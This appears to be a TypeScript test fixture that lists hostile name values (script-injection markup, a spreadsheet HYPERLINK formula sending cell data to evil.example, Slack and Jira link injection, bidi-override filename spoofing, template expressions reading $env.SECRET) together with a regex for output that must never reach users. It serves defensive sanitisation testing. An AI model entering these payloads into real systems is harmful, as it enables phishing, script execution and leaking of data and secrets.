/** Texts that an attacker may put into a name: every workflow that shows a name is tested with all of them. */
export const HOSTILE: Record<string, string> = {
	markup:
		'<img src=x onerror=alert(1)><iframe src="https://evil.example"></iframe><a href="https://evil.example">Log in</a>',
	entities: '&lt;script&gt;alert(1)&lt;/script&gt;',
	formula: '=HYPERLINK("https://evil.example?"&A1,"Open")',
	newlines: 'One\nTwo\r\nThree\u2028Four',
	long: 'x'.repeat(10_000),
	slack: '<!channel> <https://evil.example|Click here>',
	jira: '[Click|https://evil.example] !https://evil.example/x.png! {html}x{html}',
	bidi: 'Mac \u202Egnp.exe\u202C \u200Bhidden',
	expression: '{{ $env.SECRET }} ${1+1} $& $json',
	serial: 'TESTMAC1',
};

/** What must never reach a person or another product from a name. */
export const HARMFUL =
	/<(?!\/?(b|h2|h3|p|br|a)>|a href="https?:\/\/[^"]*" target="_blank">)[a-z!/]|\[Click\||&lt;|[\u202A-\u202E\u200B\u2028]/i;
